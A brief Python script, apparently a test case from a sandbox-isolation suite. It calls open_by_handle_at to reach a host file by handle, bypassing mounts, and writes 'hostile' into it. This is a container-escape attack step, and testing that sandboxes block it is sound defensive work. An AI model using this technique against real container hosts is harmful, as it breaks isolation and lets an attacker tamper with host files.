"""Open a file of the host's by its number in the file system, past all mounts, and write to it."""

import os

from hostile import bait, checked, libc

directory = os.open(".", os.O_RDONLY)
os.write(checked(libc.open_by_handle_at(directory, bytes.fromhex(bait.handle), os.O_WRONLY)), b"hostile")
